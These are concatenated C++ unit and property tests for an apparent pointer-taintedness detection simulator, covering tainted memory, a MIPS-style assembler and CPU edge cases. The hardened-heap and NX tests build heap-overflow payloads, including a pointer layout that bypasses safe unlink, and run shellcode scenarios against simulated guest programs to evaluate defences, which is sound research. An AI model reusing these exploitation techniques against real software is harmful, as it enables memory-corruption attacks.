// Property test: TaintedMemory against a trivial shadow model.  Random
// sequences of byte/half/word stores with random taint, interleaved with
// loads, bulk writes and taint sweeps, must agree with a std::map of
// (value, taint) per byte — validating paging, endianness and taint
// gather/scatter under adversarial access patterns.
#include <gtest/gtest.h>

#include <map>
#include <random>

#include "mem/tainted_memory.hpp"

namespace ptaint::mem {
namespace {

struct ShadowByte {
  uint8_t value = 0;
  bool taint = false;
};

class Shadow {
 public:
  void store(uint32_t addr, uint8_t value, bool taint) {
    bytes_[addr] = {value, taint};
  }
  ShadowByte load(uint32_t addr) const {
    auto it = bytes_.find(addr);
    return it == bytes_.end() ? ShadowByte{} : it->second;
  }
  void set_taint(uint32_t addr, uint32_t len, bool taint) {
    for (uint32_t i = 0; i < len; ++i) bytes_[addr + i].taint = taint;
  }
  uint64_t tainted_count() const {
    uint64_t n = 0;
    for (const auto& [a, b] : bytes_) n += b.taint ? 1 : 0;
    return n;
  }

 private:
  std::map<uint32_t, ShadowByte> bytes_;
};

class MemoryShadowProperty : public ::testing::TestWithParam<uint32_t> {};

TEST_P(MemoryShadowProperty, RandomOpsAgree) {
  std::mt19937 rng(GetParam());
  TaintedMemory mem;
  Shadow shadow;
  // A few hotspots crossing page boundaries plus scattered addresses.
  auto pick_addr = [&]() -> uint32_t {
    static constexpr uint32_t kBases[] = {
        0x0,        0x00000ff8, 0x10000000, 0x10000ffc,
        0x7fffbff0, 0x7fffffff - 16, 0x40000000};
    return kBases[rng() % std::size(kBases)] + rng() % 24;
  };

  for (int op = 0; op < 4000; ++op) {
    const uint32_t addr = pick_addr();
    switch (rng() % 6) {
      case 0: {  // byte store
        const uint8_t v = static_cast<uint8_t>(rng());
        const bool t = rng() % 2;
        mem.store_byte(addr, {v, t});
        shadow.store(addr, v, t);
        break;
      }
      case 1: {  // half store
        const uint32_t v = rng() & 0xffff;
        const TaintBits t = static_cast<TaintBits>(rng() & 0x3);
        mem.store_half(addr, TaintedWord{v, t});
        for (int i = 0; i < 2; ++i) {
          shadow.store(addr + i, static_cast<uint8_t>(v >> (8 * i)),
                       byte_tainted(t, i));
        }
        break;
      }
      case 2: {  // word store
        const uint32_t v = rng();
        const TaintBits t = static_cast<TaintBits>(rng() & 0xf);
        mem.store_word(addr, TaintedWord{v, t});
        for (int i = 0; i < 4; ++i) {
          shadow.store(addr + i, static_cast<uint8_t>(v >> (8 * i)),
                       byte_tainted(t, i));
        }
        break;
      }
      case 3: {  // bulk write
        const uint32_t len = rng() % 16;
        std::vector<uint8_t> data(len);
        for (auto& b : data) b = static_cast<uint8_t>(rng());
        const bool t = rng() % 2;
        mem.write_block(addr, data, t);
        for (uint32_t i = 0; i < len; ++i) shadow.store(addr + i, data[i], t);
        break;
      }
      case 4: {  // taint sweep (values untouched)
        const uint32_t len = rng() % 12;
        const bool t = rng() % 2;
        mem.set_taint(addr, len, t);
        shadow.set_taint(addr, len, t);
        break;
      }
      case 5: {  // verify a random word load against the shadow
        const TaintedWord w = mem.load_word(addr);
        uint32_t want_v = 0;
        TaintBits want_t = kUntainted;
        for (int i = 0; i < 4; ++i) {
          const ShadowByte sb = shadow.load(addr + i);
          want_v |= static_cast<uint32_t>(sb.value) << (8 * i);
          if (sb.taint) want_t |= static_cast<TaintBits>(1u << i);
        }
        ASSERT_EQ(w.value, want_v) << "word load @ " << std::hex << addr;
        ASSERT_EQ(w.taint, want_t) << "word taint @ " << std::hex << addr;
        break;
      }
    }
  }
  EXPECT_EQ(mem.tainted_byte_count(), shadow.tainted_count());
}

INSTANTIATE_TEST_SUITE_P(Seeds, MemoryShadowProperty,
                         ::testing::Values(1u, 7u, 42u, 1337u, 20050628u));

}  // namespace
}  // namespace ptaint::mem
