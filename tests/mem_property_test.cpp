// Property test: TaintedMemory against a trivial shadow model.  Random
// sequences of byte/half/word stores with random taint, interleaved with
// loads, bulk writes and taint sweeps, must agree with a std::map of
// (value, taint) per byte — validating paging, endianness and taint
// gather/scatter under adversarial access patterns.
#include <gtest/gtest.h>

#include <map>
#include <random>

#include "mem/tainted_memory.hpp"

namespace ptaint::mem {
namespace {

struct ShadowByte {
  uint8_t value = 0;
  bool taint = false;
};

class Shadow {
 public:
  void store(uint32_t addr, uint8_t value, bool taint) {
    bytes_[addr] = {value, taint};
  }
  ShadowByte load(uint32_t addr) const {
    auto it = bytes_.find(addr);
    return it == bytes_.end() ? ShadowByte{} : it->second;
  }
  void set_taint(uint32_t addr, uint32_t len, bool taint) {
    for (uint32_t i = 0; i < len; ++i) bytes_[addr + i].taint = taint;
  }
  uint64_t tainted_count() const {
    uint64_t n = 0;
    for (const auto& [a, b] : bytes_) n += b.taint ? 1 : 0;
    return n;
  }

 private:
  std::map<uint32_t, ShadowByte> bytes_;
};

class MemoryShadowProperty : public ::testing::TestWithParam<uint32_t> {};

TEST_P(MemoryShadowProperty, RandomOpsAgree) {
  std::mt19937 rng(GetParam());
  TaintedMemory mem;
  Shadow shadow;
  // A few hotspots crossing page boundaries plus scattered addresses.
  auto pick_addr = [&]() -> uint32_t {
    static constexpr uint32_t kBases[] = {
        0x0,        0x00000ff8, 0x10000000, 0x10000ffc,
        0x7fffbff0, 0x7fffffff - 16, 0x40000000};
    return kBases[rng() % std::size(kBases)] + rng() % 24;
  };

  for (int op = 0; op < 4000; ++op) {
    const uint32_t addr = pick_addr();
    switch (rng() % 6) {
      case 0: {  // byte store
        const uint8_t v = static_cast<uint8_t>(rng());
        const bool t = rng() % 2;
        mem.store_byte(addr, {v, t});
        shadow.store(addr, v, t);
        break;
      }
      case 1: {  // half store
        const uint32_t v = rng() & 0xffff;
        const TaintBits t = static_cast<TaintBits>(rng() & 0x3);
        mem.store_half(addr, TaintedWord{v, t});
        for (int i = 0; i < 2; ++i) {
          shadow.store(addr + i, static_cast<uint8_t>(v >> (8 * i)),
                       byte_tainted(t, i));
        }
        break;
      }
      case 2: {  // word store
        const uint32_t v = rng();
        const TaintBits t = static_cast<TaintBits>(rng() & 0xf);
        mem.store_word(addr, TaintedWord{v, t});
        for (int i = 0; i < 4; ++i) {
          shadow.store(addr + i, static_cast<uint8_t>(v >> (8 * i)),
                       byte_tainted(t, i));
        }
        break;
      }
      case 3: {  // bulk write
        const uint32_t len = rng() % 16;
        std::vector<uint8_t> data(len);
        for (auto& b : data) b = static_cast<uint8_t>(rng());
        const bool t = rng() % 2;
        mem.write_block(addr, data, t);
        for (uint32_t i = 0; i < len; ++i) shadow.store(addr + i, data[i], t);
        break;
      }
      case 4: {  // taint sweep (values untouched)
        const uint32_t len = rng() % 12;
        const bool t = rng() % 2;
        mem.set_taint(addr, len, t);
        shadow.set_taint(addr, len, t);
        break;
      }
      case 5: {  // verify a random word load against the shadow
        const TaintedWord w = mem.load_word(addr);
        uint32_t want_v = 0;
        TaintBits want_t = kUntainted;
        for (int i = 0; i < 4; ++i) {
          const ShadowByte sb = shadow.load(addr + i);
          want_v |= static_cast<uint32_t>(sb.value) << (8 * i);
          if (sb.taint) want_t |= static_cast<TaintBits>(1u << i);
        }
        ASSERT_EQ(w.value, want_v) << "word load @ " << std::hex << addr;
        ASSERT_EQ(w.taint, want_t) << "word taint @ " << std::hex << addr;
        break;
      }
    }
  }
  EXPECT_EQ(mem.tainted_byte_count(), shadow.tainted_count());
}

INSTANTIATE_TEST_SUITE_P(Seeds, MemoryShadowProperty,
                         ::testing::Values(1u, 7u, 42u, 1337u, 20050628u));

// COW aliasing property: a family of copy-on-write forks of one base must
// stay observably identical to deep-copied twins driven through the exact
// same operation stream — including mid-stream re-forks and delta restores
// back to the base.  Catches any write that leaks through a shared page,
// any stale memoized page pointer, and any page-summary rollup drift.
class MemoryCowProperty : public ::testing::TestWithParam<uint32_t> {};

TEST_P(MemoryCowProperty, ForksMatchDeepCopyTwins) {
  std::mt19937 rng(GetParam());
  auto pick_addr = [&]() -> uint32_t {
    static constexpr uint32_t kBases[] = {
        0x0,        0x00000ff8, 0x10000000, 0x10000ffc,
        0x7fffbff0, 0x7fffffff - 16, 0x40000000};
    return kBases[rng() % std::size(kBases)] + rng() % 24;
  };

  // Populate a base, then fork it both ways.
  TaintedMemory base;
  for (int i = 0; i < 256; ++i) {
    base.store_word(pick_addr(),
                    TaintedWord{static_cast<uint32_t>(rng()),
                                static_cast<TaintBits>(rng() & 0xf)});
  }
  TaintedMemory twin_base;
  twin_base.deep_copy_from(base);

  constexpr int kForks = 4;
  std::vector<TaintedMemory> forks(kForks), twins(kForks);
  for (int i = 0; i < kForks; ++i) {
    forks[i] = base;  // COW share
    twins[i].deep_copy_from(base);
  }

  auto expect_equal = [&](const TaintedMemory& a, const TaintedMemory& b,
                          const char* what) {
    ASSERT_EQ(a.tainted_byte_count(), b.tainted_byte_count()) << what;
    for (int probe = 0; probe < 16; ++probe) {
      const uint32_t addr = pick_addr();
      const TaintedWord wa = a.load_word(addr);
      const TaintedWord wb = b.load_word(addr);
      ASSERT_EQ(wa.value, wb.value) << what << " @ " << std::hex << addr;
      ASSERT_EQ(wa.taint, wb.taint) << what << " @ " << std::hex << addr;
      // Page-summary rollup: any_tainted_in consults the per-page counts.
      ASSERT_EQ(a.any_tainted_in(addr & ~0xfffu, 0x1000),
                b.any_tainted_in(addr & ~0xfffu, 0x1000))
          << what << " rollup @ " << std::hex << addr;
    }
  };

  for (int op = 0; op < 3000; ++op) {
    const int i = static_cast<int>(rng() % kForks);
    const uint32_t addr = pick_addr();
    switch (rng() % 6) {
      case 0: {  // byte store
        const uint8_t v = static_cast<uint8_t>(rng());
        const bool t = rng() % 2;
        forks[i].store_byte(addr, {v, t});
        twins[i].store_byte(addr, {v, t});
        break;
      }
      case 1: {  // word store
        const TaintedWord w{static_cast<uint32_t>(rng()),
                            static_cast<TaintBits>(rng() & 0xf)};
        forks[i].store_word(addr, w);
        twins[i].store_word(addr, w);
        break;
      }
      case 2: {  // taint sweep
        const uint32_t len = rng() % 12;
        const bool t = rng() % 2;
        forks[i].set_taint(addr, len, t);
        twins[i].set_taint(addr, len, t);
        break;
      }
      case 3: {  // load probe
        const TaintedWord wa = forks[i].load_word(addr);
        const TaintedWord wb = twins[i].load_word(addr);
        ASSERT_EQ(wa.value, wb.value) << "fork " << i;
        ASSERT_EQ(wa.taint, wb.taint) << "fork " << i;
        break;
      }
      case 4: {  // delta restore back to the base
        ASSERT_TRUE(forks[i].delta_restore(base).has_value())
            << "fork of base must take the delta path";
        twins[i].deep_copy_from(twin_base);
        break;
      }
      case 5: {  // re-fork from scratch
        forks[i] = base;
        twins[i].deep_copy_from(twin_base);
        break;
      }
    }
  }

  for (int i = 0; i < kForks; ++i) {
    expect_equal(forks[i], twins[i], "final fork state");
  }
  // The stream must not have corrupted the shared base itself.
  expect_equal(base, twin_base, "base after fork traffic");
  uint64_t shares = 0, cow_breaks = 0;
  for (const TaintedMemory& f : forks) {
    shares += f.cow_stats().shares;
    cow_breaks += f.cow_stats().cow_breaks;
  }
  EXPECT_GT(shares, 0u) << "forks must have shared, not copied";
  EXPECT_GT(cow_breaks, 0u) << "stores into shared pages must have cloned";
}

INSTANTIATE_TEST_SUITE_P(Seeds, MemoryCowProperty,
                         ::testing::Values(3u, 11u, 2025u));

}  // namespace
}  // namespace ptaint::mem
