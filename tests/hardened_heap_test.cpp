// Mitigation-comparison tests: the safe-unlink hardened heap (a post-2004
// glibc defense) against the exp2 heap overflow, with and without the
// paper's architecture.
#include <gtest/gtest.h>

#include "core/machine.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

using cpu::AlertKind;
using cpu::StopReason;

const std::string kExp2Attack = std::string(12, 'a') + "bbbb" + "cccc";

TEST(HardenedHeap, SourceRewriteApplied) {
  auto src = guest::malloc_lib_hardened();
  EXPECT_NE(src.text.find("safe unlink"), std::string::npos);
  EXPECT_NE(src.text.find("__unlink_abort"), std::string::npos);
  // The plain store-first unlink must be gone.
  EXPECT_EQ(src.text.find("<-- alert: sw $15,8($3)"), std::string::npos);
}

TEST(HardenedHeap, BenignWorkloadStillWorks) {
  Machine m;
  m.load_sources(
      guest::link_with_hardened_runtime(guest::apps::exp2_heap()));
  m.os().set_stdin("ok");
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit);
  EXPECT_EQ(r.exit_status, 0);
}

TEST(HardenedHeap, DetectorNowFiresAtTheCheckLoad) {
  // With the consistency check, the first tainted dereference is the
  // LW reading FD->bk — the paper's reported alert shape for exp2.
  Machine m;
  m.load_sources(
      guest::link_with_hardened_runtime(guest::apps::exp2_heap()));
  m.os().set_stdin(kExp2Attack);
  auto r = m.run();
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedLoadAddress);
  EXPECT_EQ(r.alert->inst.op, isa::Op::kLw);
  EXPECT_EQ(r.alert->reg_value, 0x63636363u);
  EXPECT_EQ(r.alert_function, "free");
}

TEST(HardenedHeap, UnprotectedAttackAbortsInsteadOfWriting) {
  MachineConfig cfg;
  cfg.policy.mode = cpu::DetectionMode::kOff;
  Machine m(cfg);
  m.load_sources(
      guest::link_with_hardened_runtime(guest::apps::exp2_heap()));
  // Word-aligned fake fd ("dddd") so the consistency check itself runs;
  // it reads garbage != B and aborts.
  m.os().set_stdin(std::string(12, 'a') + "bbbb" + "dddd");
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kExit);
  EXPECT_EQ(r.exit_status, 134);  // safe unlink aborted the process
}

TEST(HardenedHeap, UnprotectedMisalignedLinksCrashAtTheCheck) {
  // With an unaligned crafted fd the check's own load traps — either way
  // the hardened allocator denies the write primitive.
  MachineConfig cfg;
  cfg.policy.mode = cpu::DetectionMode::kOff;
  Machine m(cfg);
  m.load_sources(
      guest::link_with_hardened_runtime(guest::apps::exp2_heap()));
  m.os().set_stdin(kExp2Attack);  // fd = 0x63636363: misaligned
  auto r = m.run();
  EXPECT_EQ(r.stop, StopReason::kFault);
}

TEST(HardenedHeap, SoftUnlinkStillExploitableWherePointersCheckOut) {
  // Safe unlink only verifies back-pointers; an attacker who can aim fd at
  // a location whose +8 word points back at B defeats it.  Craft exactly
  // that: fd = &trap where *(trap+8) == B.  This shows the mitigation is
  // narrower than the paper's detector, which still alerts on the tainted
  // dereference itself.
  Machine m;
  m.load_sources(
      guest::link_with_hardened_runtime(guest::apps::exp2_heap()));
  // B (the overflowed chunk) sits at heap_base + 16.
  const uint32_t heap_base = (m.program().data_end + 7) & ~7u;
  const uint32_t chunk_b = heap_base + 16;
  // Build a fake "trap" object inside the input payload itself: the
  // payload bytes live at heap_base+4 (buf), so trap = buf+24.
  const uint32_t buf = heap_base + 4;
  const uint32_t trap = buf + 24;
  std::string payload(12, 'a');
  auto le = [](uint32_t v) {
    std::string s(4, '\0');
    for (int i = 0; i < 4; ++i) s[i] = static_cast<char>(v >> (8 * i));
    return s;
  };
  payload += le(0x100);     // B.size (even)
  payload += le(trap);      // B.fd -> trap
  payload += le(trap);      // B.bk -> trap
  payload += le(0);         // trap+0
  payload += le(chunk_b);   // trap+4: BK->fd == B, passes check 2
  payload += le(chunk_b);   // trap+8: FD->bk == B, passes check 1
  m.os().set_stdin(payload);
  auto r = m.run();
  // Under the paper's detector this is still caught at the check load.
  ASSERT_TRUE(r.detected());
  EXPECT_EQ(r.alert->kind, AlertKind::kTaintedLoadAddress);
}

}  // namespace
}  // namespace ptaint::core
