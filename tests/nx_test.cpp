// Tests for the NX (no-execute) baseline and the injected-shellcode
// attack variant: NX catches code injection, misses return-to-existing-
// code and every non-control-data attack; pointer taintedness catches
// them all.  This is the comparison the paper's introduction frames.
#include <gtest/gtest.h>

#include "core/attack.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::core {
namespace {

using cpu::AlertKind;
using cpu::DetectionMode;

cpu::TaintPolicy nx_only_policy() {
  cpu::TaintPolicy p;
  p.mode = DetectionMode::kOff;
  p.nx_protection = true;
  return p;
}

TEST(Shellcode, UnprotectedExecutesInjectedCode) {
  auto r = make_scenario(AttackId::kExp1Shellcode)
               ->run_attack(DetectionMode::kOff);
  ASSERT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
  EXPECT_NE(r.detail.find("shellcode"), std::string::npos);
}

TEST(Shellcode, PointerTaintDetectsAtTheReturn) {
  auto r = make_scenario(AttackId::kExp1Shellcode)
               ->run_attack(DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedJumpTarget);
  // Return target points into the stack.
  EXPECT_GT(r.report.alert->reg_value, isa::layout::kStackLimit);
}

TEST(Shellcode, NxCatchesTheFetchFromTheStack) {
  auto r = make_scenario(AttackId::kExp1Shellcode)
               ->run_attack_with(nx_only_policy());
  ASSERT_EQ(r.outcome, Outcome::kDetected) << r.detail;
  EXPECT_EQ(r.report.alert->kind, AlertKind::kNxViolation);
}

TEST(Nx, MissesReturnToExistingCode) {
  // The ret2code exp1 variant jumps into .text: NX sees a legal fetch.
  auto r = make_scenario(AttackId::kExp1Stack)->run_attack_with(
      nx_only_policy());
  EXPECT_EQ(r.outcome, Outcome::kCompromised) << r.detail;
}

TEST(Nx, MissesNonControlDataAttacks) {
  for (AttackId id : {AttackId::kWuFtpdFormat, AttackId::kNullHttpdHeap,
                      AttackId::kGhttpdStack}) {
    auto r = make_scenario(id)->run_attack_with(nx_only_policy());
    EXPECT_EQ(r.outcome, Outcome::kCompromised)
        << make_scenario(id)->name() << ": " << r.detail;
  }
}

TEST(Nx, BenignProgramsRunCleanly) {
  MachineConfig cfg;
  cfg.policy = nx_only_policy();
  Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
  m.os().set_stdin("hi");
  auto r = m.run();
  EXPECT_EQ(r.stop, cpu::StopReason::kExit);
}

TEST(Nx, ComposesWithPointerTaint) {
  // Both on: the pointer-taint detector wins the race (it checks the jump
  // target before the fetch ever happens).
  cpu::TaintPolicy both;
  both.nx_protection = true;
  auto r = make_scenario(AttackId::kExp1Shellcode)->run_attack_with(both);
  ASSERT_EQ(r.outcome, Outcome::kDetected);
  EXPECT_EQ(r.report.alert->kind, AlertKind::kTaintedJumpTarget);
}

}  // namespace
}  // namespace ptaint::core
