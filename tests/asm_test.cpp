// Unit tests for the two-pass assembler: directives, pseudo-instruction
// expansion, fixups, diagnostics and the symbol table.
#include <gtest/gtest.h>

#include "asmgen/assembler.hpp"
#include "asmgen/lexer.hpp"
#include "isa/isa.hpp"

namespace ptaint::asmgen {
namespace {

using isa::Op;
namespace layout = isa::layout;

isa::Instruction text_at(const Program& p, size_t index) {
  return isa::decode(p.text.at(index));
}

TEST(Lexer, LabelsAndOperands) {
  auto lines = lex("loop: addu $v0, $a0, $a1  # comment\n\n  jr $ra\n");
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0].labels, std::vector<std::string>{"loop"});
  EXPECT_EQ(lines[0].mnemonic, "addu");
  EXPECT_EQ(lines[0].operands,
            (std::vector<std::string>{"$v0", "$a0", "$a1"}));
  EXPECT_EQ(lines[1].mnemonic, "jr");
}

TEST(Lexer, StringWithCommaAndHash) {
  auto lines = lex(".asciiz \"a,b#c\"");
  ASSERT_EQ(lines.size(), 1u);
  ASSERT_EQ(lines[0].operands.size(), 1u);
  EXPECT_EQ(parse_string_literal(lines[0].operands[0]), "a,b#c");
}

TEST(Lexer, ParseIntForms) {
  EXPECT_EQ(parse_int("42"), 42);
  EXPECT_EQ(parse_int("-8"), -8);
  EXPECT_EQ(parse_int("0x1002bc20"), 0x1002bc20);
  EXPECT_EQ(parse_int("'a'"), 'a');
  EXPECT_EQ(parse_int("'\\n'"), '\n');
  EXPECT_FALSE(parse_int("main").has_value());
  EXPECT_FALSE(parse_int("0x").has_value());
}

TEST(Lexer, StringEscapes) {
  EXPECT_EQ(parse_string_literal("\"a\\nb\""), "a\nb");
  EXPECT_EQ(parse_string_literal("\"\\x20\\xbc\""), "\x20\xbc");
  EXPECT_EQ(parse_string_literal("\"\\\"\""), "\"");
  EXPECT_FALSE(parse_string_literal("nope").has_value());
}

TEST(Assembler, MinimalProgram) {
  const Program p = assemble(R"(
    .text
    _start:
      addiu $v0, $zero, 1
      syscall
  )");
  EXPECT_EQ(p.entry, layout::kTextBase);
  ASSERT_EQ(p.text.size(), 2u);
  EXPECT_EQ(text_at(p, 0).op, Op::kAddiu);
  EXPECT_EQ(text_at(p, 1).op, Op::kSyscall);
}

TEST(Assembler, DataDirectivesAndSymbols) {
  const Program p = assemble(R"(
    .data
    value:  .word 0x11223344, 7
    msg:    .asciiz "hi"
    pad:    .space 3
            .align 2
    tail:   .byte 1, 2
  )");
  EXPECT_EQ(p.symbols.at("value"), layout::kDataBase);
  EXPECT_EQ(p.symbols.at("msg"), layout::kDataBase + 8);
  EXPECT_EQ(p.symbols.at("pad"), layout::kDataBase + 11);
  EXPECT_EQ(p.symbols.at("tail"), layout::kDataBase + 16);  // aligned
  EXPECT_EQ(p.data[0], 0x44);  // little endian
  EXPECT_EQ(p.data[3], 0x11);
  EXPECT_EQ(p.data[8], 'h');
  EXPECT_EQ(p.data[10], 0);  // asciiz NUL
}

TEST(Assembler, OrgPinsAbsoluteDataAddress) {
  const Program p = assemble(R"(
    .data
      .org 0x1002bc20
    login_uid: .word 1000
  )");
  EXPECT_EQ(p.symbols.at("login_uid"), 0x1002bc20u);
  EXPECT_EQ(p.data_end, 0x1002bc24u);
}

TEST(Assembler, LiExpansions) {
  const Program p = assemble(R"(
    .text
    li $t0, 5
    li $t1, -5
    li $t2, 0xbc20
    li $t3, 0x10020000
    li $t4, 0x1002bc20
  )");
  // 1 + 1 + 1 + 1 + 2 instructions.
  ASSERT_EQ(p.text.size(), 6u);
  EXPECT_EQ(text_at(p, 0).op, Op::kAddiu);
  EXPECT_EQ(text_at(p, 1).op, Op::kAddiu);
  EXPECT_EQ(text_at(p, 2).op, Op::kOri);   // fits unsigned 16
  EXPECT_EQ(text_at(p, 3).op, Op::kLui);   // low half zero
  EXPECT_EQ(text_at(p, 4).op, Op::kLui);
  EXPECT_EQ(text_at(p, 5).op, Op::kOri);
  EXPECT_EQ(text_at(p, 4).imm, 0x1002);
  EXPECT_EQ(text_at(p, 5).imm, 0xbc20);
}

TEST(Assembler, LaUsesAbsHiLo) {
  const Program p = assemble(R"(
    .data
    buf: .space 64
    .text
    la $a0, buf+4
  )");
  EXPECT_EQ(text_at(p, 0).op, Op::kLui);
  EXPECT_EQ(text_at(p, 0).imm, 0x1000);
  EXPECT_EQ(text_at(p, 1).op, Op::kOri);
  EXPECT_EQ(text_at(p, 1).imm, 4);
}

TEST(Assembler, BranchFixupsAreRelative) {
  const Program p = assemble(R"(
    .text
    start:
      beq $a0, $a1, done
      nop
    done:
      jr $ra
  )");
  EXPECT_EQ(text_at(p, 0).imm, 1);  // skip one instruction
}

TEST(Assembler, BltExpandsToSltPlusBne) {
  const Program p = assemble(R"(
    .text
    top:
      blt $a0, $a1, top
  )");
  ASSERT_EQ(p.text.size(), 2u);
  EXPECT_EQ(text_at(p, 0).op, Op::kSlt);
  EXPECT_EQ(text_at(p, 0).rd, isa::kAt);
  EXPECT_EQ(text_at(p, 1).op, Op::kBne);
  EXPECT_EQ(text_at(p, 1).imm, -2);
}

TEST(Assembler, BgeuExpandsUnsigned) {
  const Program p = assemble(".text\nx: bgeu $t0, $t1, x\n");
  EXPECT_EQ(text_at(p, 0).op, Op::kSltu);
  EXPECT_EQ(text_at(p, 1).op, Op::kBeq);
}

TEST(Assembler, LoadWithBareLabel) {
  const Program p = assemble(R"(
    .data
      .space 0x8000
    far: .word 9
    .text
      lw $v0, far
  )");
  ASSERT_EQ(p.text.size(), 2u);
  EXPECT_EQ(text_at(p, 0).op, Op::kLui);
  EXPECT_EQ(text_at(p, 1).op, Op::kLw);
  // far = 0x10008000 -> lui 0x1001, offset -0x8000.
  EXPECT_EQ(text_at(p, 0).imm, 0x1001);
  EXPECT_EQ(text_at(p, 1).imm, -0x8000);
}

TEST(Assembler, PushPopAndMemOperandForms) {
  const Program p = assemble(R"(
    .text
    push $ra
    lw $t0, ($sp)
    lw $t1, 8($sp)
    pop $ra
  )");
  ASSERT_EQ(p.text.size(), 6u);
  EXPECT_EQ(text_at(p, 0).op, Op::kAddiu);
  EXPECT_EQ(text_at(p, 0).imm, -4);
  EXPECT_EQ(text_at(p, 1).op, Op::kSw);
  EXPECT_EQ(text_at(p, 2).imm, 0);
  EXPECT_EQ(text_at(p, 3).imm, 8);
}

TEST(Assembler, EquConstants) {
  const Program p = assemble(R"(
    .equ SYS_EXIT, 1
    .equ BUFLEN, 0x40
    .text
    li $v0, SYS_EXIT
    addiu $a0, $zero, BUFLEN
  )");
  EXPECT_EQ(text_at(p, 0).imm, 1);
  EXPECT_EQ(text_at(p, 1).imm, 0x40);
}

TEST(Assembler, JumpAndJalTargets) {
  const Program p = assemble(R"(
    .text
    _start:
      jal func
      break
    func:
      jr $ra
  )");
  EXPECT_EQ(text_at(p, 0).op, Op::kJal);
  EXPECT_EQ(text_at(p, 0).target, layout::kTextBase + 8);
}

TEST(Assembler, MultipleSourcesShareSymbols) {
  const Program p = assemble(std::vector<Source>{
      {"a.s", ".text\n_start: jal helper\nbreak\n"},
      {"b.s", ".text\nhelper: jr $ra\n"},
  });
  EXPECT_EQ(p.symbols.at("helper"), layout::kTextBase + 8);
}

TEST(Assembler, SymbolForMapsPcToFunction) {
  const Program p = assemble(R"(
    .text
    main:
      jal vfprintf
      nop
    vfprintf:
      nop
    local_label:
      nop
  )");
  EXPECT_EQ(p.symbol_for(layout::kTextBase + 4), "main");
  EXPECT_EQ(p.symbol_for(layout::kTextBase + 8), "vfprintf");
  // Local (non-function) labels do not hide the enclosing function.
  EXPECT_EQ(p.symbol_for(layout::kTextBase + 12), "vfprintf");
}

TEST(Assembler, ListingShowsLabelsAndEncodings) {
  const Program p = assemble(R"(
    .text
    main:
      jal helper
      break
    helper:
      addiu $v0, $zero, 7
      jr $ra
  )");
  const std::string text = listing(p);
  EXPECT_NE(text.find("main:"), std::string::npos);
  EXPECT_NE(text.find("helper:"), std::string::npos);
  EXPECT_NE(text.find("jal 0x400008"), std::string::npos);
  EXPECT_NE(text.find("addiu $2,$0,7"), std::string::npos);
  EXPECT_NE(text.find(".text 4 instructions"), std::string::npos);
}

TEST(AssemblerErrors, UndefinedSymbol) {
  EXPECT_THROW(assemble(".text\n j nowhere\n"), AssemblyError);
}

TEST(AssemblerErrors, DuplicateSymbol) {
  EXPECT_THROW(assemble(".text\nx: nop\nx: nop\n"), AssemblyError);
}

TEST(AssemblerErrors, BadRegister) {
  EXPECT_THROW(assemble(".text\n addu $q1, $a0, $a1\n"), AssemblyError);
}

TEST(AssemblerErrors, ImmediateOutOfRange) {
  EXPECT_THROW(assemble(".text\n addiu $a0, $a0, 70000\n"), AssemblyError);
}

TEST(AssemblerErrors, MessageCarriesFileAndLine) {
  try {
    assemble(".text\n\n frobnicate $a0\n", "app.s");
    FAIL() << "expected AssemblyError";
  } catch (const AssemblyError& e) {
    EXPECT_NE(std::string(e.what()).find("app.s:3"), std::string::npos);
    EXPECT_NE(std::string(e.what()).find("frobnicate"), std::string::npos);
  }
}

TEST(AssemblerErrors, MessageCarriesColumnAndToken) {
  // " addu $q1, $a0, $a1" — the offending operand "$q1" starts at column 7.
  try {
    assemble(".text\n addu $q1, $a0, $a1\n", "bad.s");
    FAIL() << "expected AssemblyError";
  } catch (const AssemblyError& e) {
    EXPECT_NE(std::string(e.what()).find(
                  "bad.s:2:7: expected register [near '$q1']"),
              std::string::npos)
        << e.what();
  }
  // Out-of-range immediate: anchored at the immediate operand (column 18).
  try {
    assemble(".text\n addiu $a0, $a0, 70000\n", "bad.s");
    FAIL() << "expected AssemblyError";
  } catch (const AssemblyError& e) {
    EXPECT_NE(std::string(e.what()).find(
                  "bad.s:2:18: immediate out of range [near '70000']"),
              std::string::npos)
        << e.what();
  }
}

TEST(AssemblerErrors, InstructionInDataSegment) {
  EXPECT_THROW(assemble(".data\n addu $a0, $a0, $a0\n"), AssemblyError);
}

}  // namespace
}  // namespace ptaint::asmgen
