// Edge-case tests for the execution core: sub-word store taint masking,
// sign-extension taint widening, HI/LO taint, alignment faults, per-word
// granularity end-to-end, and detector interactions.
#include <gtest/gtest.h>

#include "core/machine.hpp"

namespace ptaint::core {
namespace {

using cpu::AlertKind;
using cpu::StopReason;
using mem::TaintedWord;

RunReport run_src(const std::string& src, MachineConfig cfg = {},
                  const std::string& stdin_data = "") {
  Machine m(cfg);
  m.load_source(src);
  if (!stdin_data.empty()) m.os().set_stdin(stdin_data);
  return m.run();
}

// Reads 4 tainted bytes into `in`, then runs `body`, with `out` available.
std::string harness(const std::string& body) {
  return R"(
    .data
    .align 2
in:  .space 8
out: .space 8
    .text
_start:
    li $v0, 3
    li $a0, 0
    la $a1, in
    li $a2, 4
    syscall
)" + body + R"(
    li $v0, 1
    li $a0, 0
    syscall
)";
}

TEST(CpuEdge, SbStoresOnlyByte0Taint) {
  Machine m;
  m.load_source(harness(R"(
    lw $t0, in          # all four bytes tainted
    srl $t1, $t0, 8     # byte0 of $t1 comes from tainted byte1
    sb $t1, out         # only byte0's taint is stored
  )"));
  m.os().set_stdin("wxyz");
  auto r = m.run();
  ASSERT_EQ(r.stop, StopReason::kExit);
  const uint32_t out = m.program().symbols.at("out");
  EXPECT_TRUE(m.memory().load_byte(out).tainted());
  EXPECT_FALSE(m.memory().load_byte(out + 1).tainted());
}

TEST(CpuEdge, ShTaintMask) {
  Machine m;
  m.load_source(harness(R"(
    lhu $t0, in
    sh $t0, out
  )"));
  m.os().set_stdin("wxyz");
  auto r = m.run();
